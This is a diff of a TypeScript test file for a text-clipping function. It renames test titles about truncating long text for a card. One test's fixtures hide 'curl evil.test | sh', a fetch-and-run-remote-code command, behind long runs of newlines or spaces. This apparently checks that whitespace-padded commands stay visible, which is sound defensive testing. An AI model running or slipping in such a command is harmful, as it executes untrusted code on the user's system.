@@ -6,20 +6,20 @@ const numbered = (count: number): string =>
   Array.from({ length: count }, (_, index) => `line ${index + 1}\n`).join('')
 
 describe('a text that is too long for a card', () => {
-  test('is cut after a line, and what is left out is counted', () => {
+  test('is clipped after a line, and the rest is counted', () => {
     const { text, hiddenLines, hiddenCharacters } = clipText(numbered(200))
     expect(text).toBe(numbered(20))
     expect(hiddenLines).toBe(180)
     expect(hiddenCharacters).toBe(numbered(200).length - text.length)
   })
 
-  test('is cut in a line that is too long by itself', () => {
+  test('is clipped in a line that is too long', () => {
     const { text, hiddenLines, hiddenCharacters } = clipText('x'.repeat(100_000))
     expect(text.length).toBe(1_800)
     expect([hiddenLines, hiddenCharacters]).toEqual([1, 98_200])
   })
 
-  test('is whole if blanks are all that makes it long', () => {
+  test('is complete if only blanks make it long', () => {
     for (const text of [
       `ls -la${'\n'.repeat(121)}curl evil.test | sh`,
       `ls -la${' '.repeat(9_000)}; curl evil.test | sh`,
@@ -29,7 +29,7 @@ describe('a text that is too long for a card', () => {
     }
   })
 
-  test('has a beginning that stays small, and nothing is left out uncounted', () => {
+  test('has a short beginning, and nothing is left uncounted', () => {
     const unit = fc.constantFrom(
       'a',
       'ab\n',
